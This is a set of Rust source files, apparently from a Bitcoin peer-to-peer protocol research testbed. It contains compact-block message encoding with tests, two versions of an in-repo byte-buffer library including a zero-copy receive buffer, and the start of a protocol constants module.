    /// Compact block protocol version (1 or 2).
    pub version: u64,
}

impl Encodable for SendCmpct {
    fn encode(&self, w: &mut Writer) {
        w.bool_flag(self.announce);
        w.u64_le(self.version);
    }
}

impl Decodable for SendCmpct {
    fn decode(r: &mut Reader<'_>) -> DecodeResult<Self> {
        let announce = match r.u8()? {
            0 => false,
            1 => true,
            _ => return Err(DecodeError::InvalidValue("sendcmpct announce flag")),
        };
        Ok(SendCmpct {
            announce,
            version: r.u64_le()?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::block::BlockHeader;
    use std::collections::HashMap;

    fn test_block(ntx: usize) -> Block {
        let mut txs = vec![Transaction::coinbase(50_0000_0000, b"cb")];
        for i in 0..ntx {
            let mut t = Transaction::coinbase(1, &[1, 2, 3, i as u8]);
            t.inputs_mut()[0].prevout = crate::tx::OutPoint::new(Hash256::hash(&[i as u8]), 0);
            txs.push(t);
        }
        let mut b = Block {
            header: BlockHeader::default(),
            txs,
        };
        b.header.merkle_root = b.merkle_root();
        b.header.mine();
        b
    }

    #[test]
    fn short_ids_are_deterministic_and_key_dependent() {
        let b = test_block(2);
        let k1 = short_id_keys(&b.header, 1);
        let k2 = short_id_keys(&b.header, 2);
        let w = b.txs[1].wtxid();
        assert_eq!(short_id(k1, &w), short_id(k1, &w));
        assert_ne!(short_id(k1, &w), short_id(k2, &w));
    }

    #[test]
    fn compact_roundtrip() {
        let b = test_block(3);
        let cb = CompactBlock::from_block(&b, 77);
        let enc = cb.encode_to_vec();
        assert_eq!(CompactBlock::decode_all(&enc).unwrap(), cb);
    }

    #[test]
    fn reconstruct_from_full_pool() {
        let b = test_block(4);
        let cb = CompactBlock::from_block(&b, 9);
        let keys = short_id_keys(&b.header, 9);
        let pool: HashMap<ShortId, Transaction> = b
            .txs
            .iter()
            .skip(1)
            .map(|t| (short_id(keys, &t.wtxid()), t.clone()))
            .collect();
        let rebuilt = cb.reconstruct(&|sid| pool.get(sid).cloned()).unwrap();
        assert_eq!(rebuilt, b);
        assert_eq!(rebuilt.check(), Ok(()));
    }

    #[test]
    fn reconstruct_reports_missing() {
        let b = test_block(4);
        let cb = CompactBlock::from_block(&b, 9);
        let missing = cb.reconstruct(&|_| None).unwrap_err();
        assert_eq!(missing, vec![1, 2, 3, 4]);
    }

    #[test]
    fn prefilled_index_out_of_range_detected() {
        let b = test_block(1);
        let mut cb = CompactBlock::from_block(&b, 1);
        cb.prefilled[0].diff_index = 10; // only 2 txs exist
        assert_eq!(cb.check(), Err("cmpctblock-index-out-of-range"));
    }

    #[test]
    fn prefilled_index_overflow_detected() {
        let b = test_block(1);
        let mut cb = CompactBlock::from_block(&b, 1);
        cb.prefilled.push(PrefilledTx {
            diff_index: u64::MAX,
            tx: b.txs[0].clone(),
        });
        assert_eq!(cb.prefilled_indices(), Err("cmpctblock-index-overflow"));
    }

    #[test]
    fn getblocktxn_differential_roundtrip() {
        let req = BlockTxnRequest::from_absolute(Hash256::hash(b"b"), &[1, 3, 4, 10]);
        assert_eq!(req.diff_indices, vec![1, 1, 0, 5]);
        assert_eq!(req.absolute_indices(11).unwrap(), vec![1, 3, 4, 10]);
    }

    #[test]
    fn getblocktxn_out_of_bounds_rule() {
        let req = BlockTxnRequest::from_absolute(Hash256::hash(b"b"), &[5]);
        assert_eq!(req.absolute_indices(5), Err("getblocktxn-out-of-bounds"));
        // Overflow path.
        let req = BlockTxnRequest {
            block_hash: Hash256::ZERO,
            diff_indices: vec![u64::MAX, 1],
        };
        assert_eq!(req.absolute_indices(10), Err("getblocktxn-out-of-bounds"));
    }

    #[test]
    fn getblocktxn_wire_roundtrip() {
        let req = BlockTxnRequest::from_absolute(Hash256::hash(b"x"), &[0, 2, 7]);
        assert_eq!(
            BlockTxnRequest::decode_all(&req.encode_to_vec()).unwrap(),
            req
        );
    }

    #[test]
    fn blocktxn_roundtrip() {
        let b = test_block(2);
        let bt = BlockTxn {
            block_hash: b.hash(),
            txs: b.txs[1..].to_vec(),
        };
        assert_eq!(BlockTxn::decode_all(&bt.encode_to_vec()).unwrap(), bt);
    }

    #[test]
    fn sendcmpct_roundtrip_and_bad_flag() {
        let sc = SendCmpct {
            announce: true,
            version: 2,
        };
        assert_eq!(SendCmpct::decode_all(&sc.encode_to_vec()).unwrap(), sc);
        assert!(SendCmpct::decode_all(&[2, 0, 0, 0, 0, 0, 0, 0, 0]).is_err());
    }
}
