//! In-repo replacement for the external `bytes` crate.
//!
//! The workspace builds hermetically — no crates.io dependencies — so the
//! subset of the `bytes` API the suite actually uses lives here:
//!
//! * [`Bytes`]: an immutable, cheaply cloneable byte buffer backed by
//!   `Arc<[u8]>` plus an offset/length window, so clones and slices are
//!   reference-count bumps, never copies. Message payloads cached by the
//!   attack meter and replayed thousands of times rely on that.
//! * [`BytesMut`]: a `Vec<u8>`-backed builder that [`BytesMut::freeze`]s
//!   into a [`Bytes`] without copying.
//! * [`BufMut`]: the little-endian/big-endian integer writer trait the
//!   wire encoder drives.

use std::fmt;
use std::hash::{Hash, Hasher};
use std::ops::{Deref, RangeBounds};
use std::sync::Arc;

/// An immutable byte buffer with cheap clones and zero-copy slicing.
#[derive(Clone, Default)]
pub struct Bytes {
    data: Arc<[u8]>,
    start: usize,
    len: usize,
}

impl Bytes {
    /// Creates an empty buffer.
    pub fn new() -> Self {
        Bytes::default()
    }

    /// Wraps a static byte slice (no allocation beyond the `Arc` header).
    pub fn from_static(b: &'static [u8]) -> Self {
        Bytes::from(b.to_vec())
    }

    /// Copies a slice into a fresh buffer.
    pub fn copy_from_slice(b: &[u8]) -> Self {
        Bytes::from(b.to_vec())
    }

    /// Length of the visible window in bytes.
    pub fn len(&self) -> usize {
        self.len
    }

    /// Whether the visible window is empty.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Returns a sub-window sharing the same backing allocation.
    ///
    /// # Panics
    ///
    /// Panics when the range falls outside the buffer.
    pub fn slice(&self, range: impl RangeBounds<usize>) -> Self {
        use std::ops::Bound;
        let start = match range.start_bound() {
            Bound::Included(&n) => n,
            Bound::Excluded(&n) => n + 1,
            Bound::Unbounded => 0,
        };
        let end = match range.end_bound() {
            Bound::Included(&n) => n + 1,
            Bound::Excluded(&n) => n,
            Bound::Unbounded => self.len,
        };
        assert!(start <= end && end <= self.len, "slice {start}..{end} out of range for Bytes of length {}", self.len);
        Bytes {
            data: Arc::clone(&self.data),
            start: self.start + start,
            len: end - start,
        }
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.data[self.start..self.start + self.len]
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        self
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Self {
        let len = v.len();
        Bytes {
            data: v.into(),
            start: 0,
            len,
        }
    }
}

impl From<&[u8]> for Bytes {
    fn from(b: &[u8]) -> Self {
        Bytes::copy_from_slice(b)
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Self) -> bool {
        self[..] == other[..]
    }
}

impl Eq for Bytes {}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        self[..] == *other
    }
}

impl Hash for Bytes {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self[..].hash(state);
    }
}

// Both buffers format as a hex prefix with an elided tail, so payloads in
// test-failure output stay readable at any size.
fn fmt_hex_prefix(bytes: &[u8], f: &mut fmt::Formatter<'_>) -> fmt::Result {
    write!(f, "b\"")?;
    for b in bytes.iter().take(32) {
        write!(f, "\\x{b:02x}")?;
    }
    if bytes.len() > 32 {
        write!(f, "…+{}", bytes.len() - 32)?;
    }
    write!(f, "\"")
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt_hex_prefix(self, f)
    }
}

/// A growable byte builder; [`BytesMut::freeze`] converts it into an
/// immutable [`Bytes`] without copying.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct BytesMut {
    buf: Vec<u8>,
}

impl BytesMut {
    /// Creates an empty builder.
    pub fn new() -> Self {
        BytesMut::default()
    }

    /// Creates an empty builder with `cap` bytes preallocated.
    pub fn with_capacity(cap: usize) -> Self {
        BytesMut {
            buf: Vec::with_capacity(cap),
        }
    }

    /// Bytes written so far.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// Whether nothing has been written.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Converts into an immutable [`Bytes`], reusing the allocation.
    pub fn freeze(self) -> Bytes {
        Bytes::from(self.buf)
    }
}

impl Deref for BytesMut {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.buf
    }
}

impl AsRef<[u8]> for BytesMut {
    fn as_ref(&self) -> &[u8] {
        self
    }
}

impl fmt::Debug for BytesMut {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt_hex_prefix(self, f)
    }
}

/// Byte-sink trait: appends raw slices and fixed-width integers in the
/// endianness the Bitcoin wire format needs.
pub trait BufMut {
    /// Appends a raw slice.
    fn put_slice(&mut self, b: &[u8]);

    /// Appends one byte.
    fn put_u8(&mut self, v: u8) {
        self.put_slice(&[v]);
    }

    /// Appends a `u16`, little-endian.
    fn put_u16_le(&mut self, v: u16) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Appends a `u16`, big-endian (network order — port numbers).
    fn put_u16(&mut self, v: u16) {
        self.put_slice(&v.to_be_bytes());
    }

    /// Appends a `u32`, little-endian.
    fn put_u32_le(&mut self, v: u32) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Appends a `u64`, little-endian.
    fn put_u64_le(&mut self, v: u64) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Appends an `i32`, little-endian.
    fn put_i32_le(&mut self, v: i32) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Appends an `i64`, little-endian.
    fn put_i64_le(&mut self, v: i64) {
        self.put_slice(&v.to_le_bytes());
    }
}

impl BufMut for BytesMut {
    fn put_slice(&mut self, b: &[u8]) {
        self.buf.extend_from_slice(b);
    }
}

impl BufMut for Vec<u8> {
    fn put_slice(&mut self, b: &[u8]) {
        self.extend_from_slice(b);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clone_shares_allocation() {
        let a = Bytes::from(vec![1, 2, 3, 4]);
        let b = a.clone();
        assert_eq!(a, b);
        assert!(std::ptr::eq(a.as_ref().as_ptr(), b.as_ref().as_ptr()));
    }

    #[test]
    fn slice_is_a_window_not_a_copy() {
        let a = Bytes::from(vec![0, 1, 2, 3, 4, 5, 6, 7]);
        let mid = a.slice(2..6);
        assert_eq!(&mid[..], &[2, 3, 4, 5]);
        assert!(std::ptr::eq(mid.as_ref().as_ptr(), a[2..].as_ptr()));
        let inner = mid.slice(1..3);
        assert_eq!(&inner[..], &[3, 4]);
        assert_eq!(a.slice(..).len(), 8);
        assert_eq!(a.slice(4..).len(), 4);
        assert_eq!(a.slice(..=3).len(), 4);
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn slice_out_of_range_panics() {
        Bytes::from(vec![1, 2, 3]).slice(1..5);
    }

    #[test]
    fn equality_ignores_backing_layout() {
        let a = Bytes::from(vec![9, 9, 1, 2, 9]).slice(2..4);
        let b = Bytes::from(vec![1, 2]);
        assert_eq!(a, b);
        use std::collections::hash_map::DefaultHasher;
        let h = |x: &Bytes| {
            let mut s = DefaultHasher::new();
            x.hash(&mut s);
            s.finish()
        };
        assert_eq!(h(&a), h(&b));
    }

    #[test]
    fn constructors() {
        assert!(Bytes::new().is_empty());
        assert_eq!(&Bytes::from_static(b"abc")[..], b"abc");
        assert_eq!(&Bytes::copy_from_slice(&[5, 6])[..], &[5, 6]);
        assert_eq!(Bytes::from(&b"xy"[..]).len(), 2);
    }

    #[test]
    fn builder_writes_every_width() {
        let mut m = BytesMut::with_capacity(64);
        m.put_u8(0x01);
        m.put_u16_le(0x0302);
        m.put_u16(0x0405); // big-endian
        m.put_u32_le(0x0908_0706);
        m.put_u64_le(0x1111_1010_0f0e_0d0c);
        m.put_i32_le(-2);
        m.put_i64_le(-3);
        m.put_slice(&[0xAA, 0xBB]);
        let frozen = m.freeze();
        let mut expect = vec![0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09];
        expect.extend_from_slice(&0x1111_1010_0f0e_0d0cu64.to_le_bytes());
        expect.extend_from_slice(&(-2i32).to_le_bytes());
        expect.extend_from_slice(&(-3i64).to_le_bytes());
        expect.extend_from_slice(&[0xAA, 0xBB]);
        assert_eq!(&frozen[..], &expect[..]);
    }

    #[test]
    fn vec_is_also_a_bufmut() {
        let mut v: Vec<u8> = Vec::new();
        v.put_u32_le(7);
        v.put_slice(b"ok");
        assert_eq!(v, [7, 0, 0, 0, b'o', b'k']);
    }

    #[test]
    fn debug_elides_long_buffers() {
        let short = format!("{:?}", Bytes::from(vec![0xAB; 2]));
        assert_eq!(short, "b\"\\xab\\xab\"");
        let long = format!("{:?}", Bytes::from(vec![0u8; 40]));
        assert!(long.contains("…+8"), "{long}");
    }
}
