//! In-repo replacement for the external `bytes` crate.
//!
//! The workspace builds hermetically — no crates.io dependencies — so the
//! subset of the `bytes` API the suite actually uses lives here:
//!
//! * [`Bytes`]: an immutable, cheaply cloneable byte buffer backed by
//!   `Arc<Vec<u8>>` plus an offset/length window, so clones and slices are
//!   reference-count bumps, never copies. Message payloads cached by the
//!   attack meter and replayed thousands of times rely on that.
//! * [`BytesMut`]: a `Vec<u8>`-backed builder that [`BytesMut::freeze`]s
//!   into a [`Bytes`] without copying — the `Arc` adopts the builder's
//!   allocation as-is.
//! * [`BufMut`]: the little-endian/big-endian integer writer trait the
//!   wire encoder drives.
//! * [`RecvBuffer`]: the per-peer reassembly cursor buffer of the
//!   zero-copy receive path. Deliveries append, framing advances a read
//!   cursor, and decoded payloads are [`Bytes`] windows into the same
//!   backing allocation — the buffer compacts (the only memmove it ever
//!   does) solely when the writable tail is exhausted.

use std::fmt;
use std::hash::{Hash, Hasher};
use std::ops::{Deref, RangeBounds};
use std::sync::Arc;

/// An immutable byte buffer with cheap clones and zero-copy slicing.
#[derive(Clone, Default)]
pub struct Bytes {
    data: Arc<Vec<u8>>,
    start: usize,
    len: usize,
}

impl Bytes {
    /// Creates an empty buffer.
    pub fn new() -> Self {
        Bytes::default()
    }

    /// Wraps a static byte slice (no allocation beyond the `Arc` header).
    pub fn from_static(b: &'static [u8]) -> Self {
        Bytes::from(b.to_vec())
    }

    /// Copies a slice into a fresh buffer.
    pub fn copy_from_slice(b: &[u8]) -> Self {
        Bytes::from(b.to_vec())
    }

    /// Length of the visible window in bytes.
    pub fn len(&self) -> usize {
        self.len
    }

    /// Whether the visible window is empty.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Returns a sub-window sharing the same backing allocation.
    ///
    /// # Panics
    ///
    /// Panics when the range falls outside the buffer.
    pub fn slice(&self, range: impl RangeBounds<usize>) -> Self {
        use std::ops::Bound;
        let start = match range.start_bound() {
            Bound::Included(&n) => n,
            Bound::Excluded(&n) => n + 1,
            Bound::Unbounded => 0,
        };
        let end = match range.end_bound() {
            Bound::Included(&n) => n + 1,
            Bound::Excluded(&n) => n,
            Bound::Unbounded => self.len,
        };
        // lint:allow(panic-path): documented slice() contract — callers on the decode path derive ranges from already-validated lengths
        assert!(start <= end && end <= self.len, "slice {start}..{end} out of range for Bytes of length {}", self.len);
        Bytes {
            data: Arc::clone(&self.data),
            start: self.start + start,
            len: end - start,
        }
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.data[self.start..self.start + self.len]
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        self
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Self {
        let len = v.len();
        Bytes {
            data: Arc::new(v),
            start: 0,
            len,
        }
    }
}

impl From<&[u8]> for Bytes {
    fn from(b: &[u8]) -> Self {
        Bytes::copy_from_slice(b)
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Self) -> bool {
        self[..] == other[..]
    }
}

impl Eq for Bytes {}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        self[..] == *other
    }
}

impl Hash for Bytes {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self[..].hash(state);
    }
}

// Both buffers format as a hex prefix with an elided tail, so payloads in
// test-failure output stay readable at any size.
fn fmt_hex_prefix(bytes: &[u8], f: &mut fmt::Formatter<'_>) -> fmt::Result {
    write!(f, "b\"")?;
    for b in bytes.iter().take(32) {
        write!(f, "\\x{b:02x}")?;
    }
    if bytes.len() > 32 {
        write!(f, "…+{}", bytes.len() - 32)?;
    }
    write!(f, "\"")
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt_hex_prefix(self, f)
    }
}

/// A growable byte builder; [`BytesMut::freeze`] converts it into an
/// immutable [`Bytes`] without copying.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct BytesMut {
    buf: Vec<u8>,
}

impl BytesMut {
    /// Creates an empty builder.
    pub fn new() -> Self {
        BytesMut::default()
    }

    /// Creates an empty builder with `cap` bytes preallocated.
    pub fn with_capacity(cap: usize) -> Self {
        BytesMut {
            buf: Vec::with_capacity(cap),
        }
    }

    /// Bytes written so far.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// Whether nothing has been written.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Converts into an immutable [`Bytes`], reusing the allocation.
    pub fn freeze(self) -> Bytes {
        Bytes::from(self.buf)
    }
}

impl Deref for BytesMut {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.buf
    }
}

impl AsRef<[u8]> for BytesMut {
    fn as_ref(&self) -> &[u8] {
        self
    }
}

impl fmt::Debug for BytesMut {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt_hex_prefix(self, f)
    }
}

/// Byte-sink trait: appends raw slices and fixed-width integers in the
/// endianness the Bitcoin wire format needs.
pub trait BufMut {
    /// Appends a raw slice.
    fn put_slice(&mut self, b: &[u8]);

    /// Appends one byte.
    fn put_u8(&mut self, v: u8) {
        self.put_slice(&[v]);
    }

    /// Appends a `u16`, little-endian.
    fn put_u16_le(&mut self, v: u16) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Appends a `u16`, big-endian (network order — port numbers).
    fn put_u16(&mut self, v: u16) {
        self.put_slice(&v.to_be_bytes());
    }

    /// Appends a `u32`, little-endian.
    fn put_u32_le(&mut self, v: u32) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Appends a `u64`, little-endian.
    fn put_u64_le(&mut self, v: u64) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Appends an `i32`, little-endian.
    fn put_i32_le(&mut self, v: i32) {
        self.put_slice(&v.to_le_bytes());
    }

    /// Appends an `i64`, little-endian.
    fn put_i64_le(&mut self, v: i64) {
        self.put_slice(&v.to_le_bytes());
    }
}

impl BufMut for BytesMut {
    fn put_slice(&mut self, b: &[u8]) {
        self.buf.extend_from_slice(b);
    }
}

impl BufMut for Vec<u8> {
    fn put_slice(&mut self, b: &[u8]) {
        self.extend_from_slice(b);
    }
}

/// Per-peer reassembly buffer for the zero-copy receive path.
///
/// Deliveries [`RecvBuffer::push`] onto the tail; framing reads the
/// unconsumed [`RecvBuffer::window`] and [`RecvBuffer::advance`]s the read
/// cursor. Decoded payloads are [`Bytes::slice`]s of the window, so they
/// share this buffer's backing allocation and cost no copy.
///
/// Buffer management never moves consumed bytes eagerly. The only moves
/// are:
///
/// * **compaction** — when an append would otherwise grow the allocation
///   and a consumed prefix exists, the unconsumed tail is shifted to the
///   front first (tail-length bytes moved, counted in
///   [`RecvBuffer::bytes_memmoved`]);
/// * **rebuild** — when payload slices from an earlier window are still
///   alive (the `Arc` is shared), the unconsumed tail is re-homed into a
///   fresh allocation so the shared bytes stay immutable.
///
/// On the steady-state path (payloads dropped by the end of each delivery
/// tick, frames consumed as they arrive) neither happens: the buffer
/// resets its cursor in place and the only copy is the unavoidable ingest
/// of the delivered bytes.
#[derive(Clone, Default)]
pub struct RecvBuffer {
    data: Arc<Vec<u8>>,
    read: usize,
    bytes_memmoved: u64,
    compactions: u64,
    rebuilds: u64,
}

impl RecvBuffer {
    /// Creates an empty buffer.
    pub fn new() -> Self {
        RecvBuffer::default()
    }

    /// Appends delivered bytes to the writable tail.
    pub fn push(&mut self, incoming: &[u8]) {
        match Arc::get_mut(&mut self.data) {
            Some(vec) => {
                if self.read == vec.len() {
                    // Fully consumed: reset the cursor in place, zero moves.
                    vec.clear();
                    self.read = 0;
                } else if self.read > 0 && vec.len() + incoming.len() > vec.capacity() {
                    // Writable tail exhausted: compact the unconsumed
                    // suffix to the front before the Vec would grow.
                    let tail = vec.len() - self.read;
                    vec.drain(..self.read);
                    self.read = 0;
                    self.bytes_memmoved += tail as u64;
                    self.compactions += 1;
                }
                vec.extend_from_slice(incoming);
            }
            None => {
                // Payload slices of an earlier window are still alive:
                // re-home the unconsumed tail so the shared backing stays
                // immutable underneath them.
                let tail = &self.data[self.read..];
                let tail_len = tail.len();
                let mut v = Vec::with_capacity(tail_len + incoming.len());
                v.extend_from_slice(tail);
                v.extend_from_slice(incoming);
                self.bytes_memmoved += tail_len as u64;
                self.rebuilds += 1;
                self.read = 0;
                self.data = Arc::new(v);
            }
        }
    }

    /// The unconsumed region as a zero-copy [`Bytes`] window. Slices of it
    /// stay valid (and keep the backing allocation alive) after further
    /// pushes or advances.
    pub fn window(&self) -> Bytes {
        Bytes {
            data: Arc::clone(&self.data),
            start: self.read,
            len: self.data.len() - self.read,
        }
    }

    /// Marks `n` more bytes as consumed (clamped to the unconsumed length).
    pub fn advance(&mut self, n: usize) {
        self.read = (self.read + n).min(self.data.len());
    }

    /// Bytes buffered but not yet consumed by framing.
    pub fn unconsumed(&self) -> usize {
        self.data.len() - self.read
    }

    /// Whether no unconsumed bytes remain.
    pub fn is_empty(&self) -> bool {
        self.unconsumed() == 0
    }

    /// Drops all buffered bytes (framing desync / poison recovery).
    pub fn clear(&mut self) {
        match Arc::get_mut(&mut self.data) {
            Some(vec) => {
                vec.clear();
                self.read = 0;
            }
            None => {
                self.data = Arc::default();
                self.read = 0;
            }
        }
    }

    /// Total bytes moved by compactions and rebuilds — the buffer-management
    /// cost beyond the unavoidable ingest copy. The old `Vec` + per-frame
    /// tail-`to_vec` path moved O(k²) bytes per k-frame burst; this counter
    /// is what BENCH_msgpath compares against that.
    pub fn bytes_memmoved(&self) -> u64 {
        self.bytes_memmoved
    }

    /// Number of in-place compactions performed.
    pub fn compactions(&self) -> u64 {
        self.compactions
    }

    /// Number of shared-backing rebuilds performed.
    pub fn rebuilds(&self) -> u64 {
        self.rebuilds
    }
}

impl fmt::Debug for RecvBuffer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "RecvBuffer(unconsumed={}, memmoved={}, compactions={}, rebuilds={})",
            self.unconsumed(),
            self.bytes_memmoved,
            self.compactions,
            self.rebuilds
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clone_shares_allocation() {
        let a = Bytes::from(vec![1, 2, 3, 4]);
        let b = a.clone();
        assert_eq!(a, b);
        assert!(std::ptr::eq(a.as_ref().as_ptr(), b.as_ref().as_ptr()));
    }

    #[test]
    fn slice_is_a_window_not_a_copy() {
        let a = Bytes::from(vec![0, 1, 2, 3, 4, 5, 6, 7]);
        let mid = a.slice(2..6);
        assert_eq!(&mid[..], &[2, 3, 4, 5]);
        assert!(std::ptr::eq(mid.as_ref().as_ptr(), a[2..].as_ptr()));
        let inner = mid.slice(1..3);
        assert_eq!(&inner[..], &[3, 4]);
        assert_eq!(a.slice(..).len(), 8);
        assert_eq!(a.slice(4..).len(), 4);
        assert_eq!(a.slice(..=3).len(), 4);
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn slice_out_of_range_panics() {
        Bytes::from(vec![1, 2, 3]).slice(1..5);
    }

    #[test]
    fn equality_ignores_backing_layout() {
        let a = Bytes::from(vec![9, 9, 1, 2, 9]).slice(2..4);
        let b = Bytes::from(vec![1, 2]);
        assert_eq!(a, b);
        use std::collections::hash_map::DefaultHasher;
        let h = |x: &Bytes| {
            let mut s = DefaultHasher::new();
            x.hash(&mut s);
            s.finish()
        };
        assert_eq!(h(&a), h(&b));
    }

    #[test]
    fn constructors() {
        assert!(Bytes::new().is_empty());
        assert_eq!(&Bytes::from_static(b"abc")[..], b"abc");
        assert_eq!(&Bytes::copy_from_slice(&[5, 6])[..], &[5, 6]);
        assert_eq!(Bytes::from(&b"xy"[..]).len(), 2);
    }

    #[test]
    fn builder_writes_every_width() {
        let mut m = BytesMut::with_capacity(64);
        m.put_u8(0x01);
        m.put_u16_le(0x0302);
        m.put_u16(0x0405); // big-endian
        m.put_u32_le(0x0908_0706);
        m.put_u64_le(0x1111_1010_0f0e_0d0c);
        m.put_i32_le(-2);
        m.put_i64_le(-3);
        m.put_slice(&[0xAA, 0xBB]);
        let frozen = m.freeze();
        let mut expect = vec![0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09];
        expect.extend_from_slice(&0x1111_1010_0f0e_0d0cu64.to_le_bytes());
        expect.extend_from_slice(&(-2i32).to_le_bytes());
        expect.extend_from_slice(&(-3i64).to_le_bytes());
        expect.extend_from_slice(&[0xAA, 0xBB]);
        assert_eq!(&frozen[..], &expect[..]);
    }

    #[test]
    fn vec_is_also_a_bufmut() {
        let mut v: Vec<u8> = Vec::new();
        v.put_u32_le(7);
        v.put_slice(b"ok");
        assert_eq!(v, [7, 0, 0, 0, b'o', b'k']);
    }

    #[test]
    fn debug_elides_long_buffers() {
        let short = format!("{:?}", Bytes::from(vec![0xAB; 2]));
        assert_eq!(short, "b\"\\xab\\xab\"");
        let long = format!("{:?}", Bytes::from(vec![0u8; 40]));
        assert!(long.contains("…+8"), "{long}");
    }

    #[test]
    fn freeze_is_zero_copy() {
        let mut m = BytesMut::with_capacity(8);
        m.put_slice(&[1, 2, 3]);
        let before = m.as_ref().as_ptr();
        let frozen = m.freeze();
        assert!(std::ptr::eq(before, frozen.as_ref().as_ptr()));
    }

    #[test]
    fn recv_window_slices_share_the_backing() {
        let mut rb = RecvBuffer::new();
        rb.push(&[1, 2, 3, 4, 5, 6]);
        let w = rb.window();
        assert_eq!(&w[..], &[1, 2, 3, 4, 5, 6]);
        let payload = w.slice(2..5);
        assert!(std::ptr::eq(payload.as_ref().as_ptr(), w[2..].as_ptr()));
        rb.advance(5);
        assert_eq!(rb.unconsumed(), 1);
        assert_eq!(&payload[..], &[3, 4, 5]);
        assert_eq!(rb.bytes_memmoved(), 0);
    }

    #[test]
    fn steady_state_resets_in_place_without_moves() {
        let mut rb = RecvBuffer::new();
        for round in 0u8..50 {
            rb.push(&[round; 32]);
            assert_eq!(rb.unconsumed(), 32);
            rb.advance(32);
        }
        // Every round fully consumed + windows dropped: cursor resets in
        // place, nothing is ever moved or re-homed.
        assert_eq!(rb.bytes_memmoved(), 0);
        assert_eq!(rb.compactions(), 0);
        assert_eq!(rb.rebuilds(), 0);
    }

    #[test]
    fn compaction_only_when_tail_exhausted_and_counts_moves() {
        let mut rb = RecvBuffer::new();
        rb.push(&vec![7u8; 64]);
        rb.advance(60); // 4-byte straddler left behind
        // Keep pushing until the capacity would be exceeded: the buffer
        // must compact (move only the 4 unconsumed bytes) instead of
        // growing with 60 dead bytes at the front.
        let mut pushed = 0usize;
        while rb.bytes_memmoved() == 0 && pushed < 4096 {
            rb.push(&[1u8; 16]);
            rb.advance(rb.unconsumed() - 4); // always leave a 4-byte tail
            pushed += 16;
        }
        assert_eq!(rb.compactions(), 1, "compaction never triggered");
        assert_eq!(rb.bytes_memmoved(), 4, "only the unconsumed tail moves");
        assert_eq!(rb.rebuilds(), 0);
        assert_eq!(rb.unconsumed(), 4);
    }

    #[test]
    fn live_payload_forces_rebuild_and_keeps_bytes_stable() {
        let mut rb = RecvBuffer::new();
        rb.push(&[1, 2, 3, 4]);
        let payload = rb.window().slice(0..4);
        rb.advance(4);
        // The payload keeps the Arc shared, so the next push must re-home
        // the (empty) tail rather than mutate under the payload.
        rb.push(&[5, 6]);
        assert_eq!(rb.rebuilds(), 1);
        assert_eq!(&payload[..], &[1, 2, 3, 4]);
        assert_eq!(&rb.window()[..], &[5, 6]);
        // Tail was empty, so the rebuild moved zero bytes.
        assert_eq!(rb.bytes_memmoved(), 0);
    }

    #[test]
    fn clear_discards_buffered_bytes() {
        let mut rb = RecvBuffer::new();
        rb.push(&[1, 2, 3]);
        rb.advance(1);
        rb.clear();
        assert!(rb.is_empty());
        let held = rb.window();
        rb.clear(); // shared-Arc clear path
        assert!(rb.is_empty());
        assert_eq!(held.len(), 0);
    }
}
