//! Shared protocol types: hashes, network addresses, inventory vectors,
//! service flags and protocol constants.

use crate::encode::{Decodable, DecodeError, DecodeResult, Encodable, Reader, Writer};
use std::fmt;

/// The protocol version the paper's testbed speaks (Bitcoin Core 0.20.0).
pub const PROTOCOL_VERSION: u32 = 70015;

/// Protocol version at which BIP37 `FILTERADD`/`FILTERLOAD` became
/// disallowed without `NODE_BLOOM` (the 0.20.0 rule keys off `>= 70011`).
pub const NO_BLOOM_VERSION: u32 = 70011;

/// Default P2P port.
pub const DEFAULT_PORT: u16 = 8333;

/// A 256-bit hash (txid, block hash, merkle node).
///
/// Displayed in the conventional reversed (big-endian) hex order.
